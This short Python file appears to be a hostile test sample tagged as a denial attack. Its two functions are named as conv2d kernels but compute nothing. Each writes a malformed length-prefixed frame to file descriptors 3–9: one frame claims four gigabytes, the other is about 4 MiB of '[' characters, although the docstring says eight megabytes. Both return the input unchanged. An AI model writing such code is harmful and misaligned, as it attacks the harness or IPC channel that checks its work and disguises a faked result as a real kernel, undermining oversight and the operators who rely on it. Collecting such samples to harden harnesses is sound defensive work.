"""A frame that claims four gigabytes, and one of eight megabytes of brackets."""

# class: denial

# %% conv2d_combined
import os
import struct


def conv2d_combined(x, weight, bias):
    frame = struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF)
    for number in range(3, 10):
        try:
            os.write(number, frame)
        except OSError:
            continue
    return x
# %% conv2d_multi_input
def conv2d_multi_input(x, weight, bias):
    import os
    import struct

    frame = struct.pack("<II", 4 << 20, 0) + b"[" * (4 << 20)
    for number in range(3, 10):
        try:
            os.write(number, frame)
        except OSError:
            continue
    return x
